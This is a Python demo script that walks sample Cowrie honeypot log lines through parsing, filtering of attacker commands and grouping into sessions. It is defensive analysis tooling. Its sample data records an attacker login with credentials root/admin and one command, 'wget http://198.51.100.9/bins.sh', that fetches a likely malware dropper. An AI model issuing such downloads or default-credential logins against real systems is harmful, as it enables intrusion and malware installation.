"""Walk a few Cowrie log lines through parsing, filtering, and grouping.

Run: python demos/01_parse_sessions.py
"""

from datetime import datetime, timezone

from chainwatch.errors import ParseError
from chainwatch.ingest import filter_command_events, parse_event, wrap_raw
from chainwatch.session_store import group_sessions

LOG_LINES = [
    '{"eventid":"cowrie.session.connect","timestamp":"2019-08-27T10:00:00Z","session":"a1b2","src_ip":"203.0.113.5","sensor":"hp-ams","message":"New connection"}',
    '{"eventid":"cowrie.login.success","timestamp":"2019-08-27T10:00:01Z","session":"a1b2","src_ip":"203.0.113.5","sensor":"hp-ams","message":"login attempt [root/admin] succeeded"}',
    '{"eventid":"cowrie.command.input","timestamp":"2019-08-27T10:00:02.120000Z","session":"a1b2","src_ip":"203.0.113.5","sensor":"hp-ams","message":"CMD: shell","input":"shell"}',
    '{"eventid":"cowrie.command.input","timestamp":"2019-08-27T10:00:02.480000Z","session":"a1b2","src_ip":"203.0.113.5","sensor":"hp-ams","message":"CMD: system","input":"system"}',
    'this line is corrupt {{{',
    '{"eventid":"cowrie.command.input","timestamp":"2019-08-27T10:00:03Z","session":"a1b2","src_ip":"203.0.113.5","sensor":"hp-ams","message":"CMD: enable","input":"enable"}',
    '{"eventid":"cowrie.command.input","timestamp":"2019-08-27T10:00:05Z","session":"ff09","src_ip":"198.51.100.7","sensor":"hp-lon","message":"CMD: wget","input":"wget http://198.51.100.9/bins.sh"}',
    '{"eventid":"cowrie.session.closed","timestamp":"2019-08-27T10:00:09Z","session":"a1b2","src_ip":"203.0.113.5","sensor":"hp-ams","message":"Connection lost"}',
]


def main():
    print("== 1. every raw line gets a byte-exact wrapper ==")
    doc = wrap_raw(LOG_LINES[0].encode(), "demo.json", datetime.now(tz=timezone.utc))
    print(f"  type={doc.type_tag} origin={doc.origin} payload={doc.payload[:48]}...")

    print("\n== 2. parse line by line; malformed lines are reported, not fatal ==")
    events = []
    for line_no, line in enumerate(LOG_LINES, start=1):
        try:
            events.append(parse_event(line, line_no=line_no, origin="demo.json", seq=line_no))
        except ParseError as exc:
            print(f"  skipped -> {exc}")
    print(f"  parsed {len(events)} of {len(LOG_LINES)} lines")

    print("\n== 3. keep only the shell commands attackers typed ==")
    commands = list(filter_command_events(events))
    for ev in commands:
        print(f"  [{ev.sensor}/{ev.session_id}] {ev.timestamp:%H:%M:%S} $ {ev.command}")

    print("\n== 4. group into login sessions (sorted by timestamp) ==")
    corpus = group_sessions(commands, source="demo")
    for sess in corpus.sessions:
        chain = " - ".join(sess.commands)
        print(f"  {sess.sensor}/{sess.session_id} ({sess.source_ip}): {chain}")


if __name__ == "__main__":
    main()
